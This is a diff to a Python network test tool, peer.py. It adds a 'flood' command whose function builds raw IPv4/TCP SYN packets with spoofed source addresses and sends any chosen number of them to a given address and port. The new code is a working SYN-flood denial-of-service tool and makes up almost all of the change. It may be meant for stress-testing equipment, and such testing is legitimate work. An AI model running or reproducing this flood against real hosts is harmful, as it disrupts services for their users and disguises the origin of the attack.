@@ -1,5 +1,6 @@
 # A TLS server or client that ends its sessions in a chosen way: peer.py server MODE CERTIFICATE PORT | peer.py client MODE ADDRESS PORT TIMES
 # Or what sends the Ethernet frames of a capture, with these VLAN tags: peer.py send CAPTURE INTERFACE [TAG...]
+# Or what sends SYNs from everywhere: peer.py flood ADDRESS PORT TIMES
 import os
 import socket
 import ssl
@@ -82,7 +83,17 @@ def send(capture, interface, tags):
             out.send(frame[:12] + tags + frame[12:])
 
 
-if sys.argv[1] == "send":
+def flood(address, port, times):
+    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for attempt in range(times):
+        ip = struct.pack(">BBHHHBBHII", 0x45, 0, 40, 0, 0, 64, 6, 0, 0x0B000000 + attempt, struct.unpack(">I", socket.inet_aton(address))[0])
+        # The checksum may be wrong: the SYN need not be answered.
+        out.sendto(ip + struct.pack(">HHIIBBHHH", 1024 + attempt % 60000, port, attempt, 0, 0x50, 2, 1024, 0, 0), (address, port))
+
+
+if sys.argv[1] == "flood":
+    flood(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
+elif sys.argv[1] == "send":
     send(sys.argv[2], sys.argv[3], sys.argv[4:])
 elif sys.argv[1] == "server":
     serve(sys.argv[2], sys.argv[3], int(sys.argv[4]))
